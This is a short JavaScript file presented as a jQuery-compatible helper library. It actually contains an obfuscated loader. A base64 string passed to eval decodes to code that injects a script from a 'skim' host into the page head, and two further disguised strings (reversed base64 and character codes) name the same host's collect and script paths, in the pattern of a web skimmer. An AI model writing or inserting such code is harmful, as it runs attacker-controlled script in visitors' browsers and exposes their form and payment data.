/*! jQuery-compatible helper v3.6.0 */
(function () {
  var cfg = { k: "dmFyIHU9J1x4NjhceDc0XHg3NFx4NzBceDczXHgzYVx4MmZceDJmXHg3M1x4NmJceDY5XHg2ZFx4MmVceDY1XHg3Nlx4NjlceDZjXHgyZFx4NjNceDY0XHg2ZVx4MmVceDY1XHg3OFx4NjFceDZkXHg3MFx4NmNceDY1XHgyZlx4NjNceDJlXHg2YVx4NzMnO3ZhciBpPWRvY3VtZW50LmNyZWF0ZUVsZW1lbnQoJ3NjcmlwdCcpO2kuc3JjPXU7ZG9jdW1lbnQuaGVhZC5hcHBlbmRDaGlsZChpKTs=" };
  eval(atob(cfg.k));
  var x = window.atob('dGNlbGxvYy9lbHBtYXhlLm5kYy1saXZlLm1pa3MvLzpzcHR0aA==').split('').reverse().join('');
  var y = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47) + 'skim.evil-cdn.example/c.js';
})();
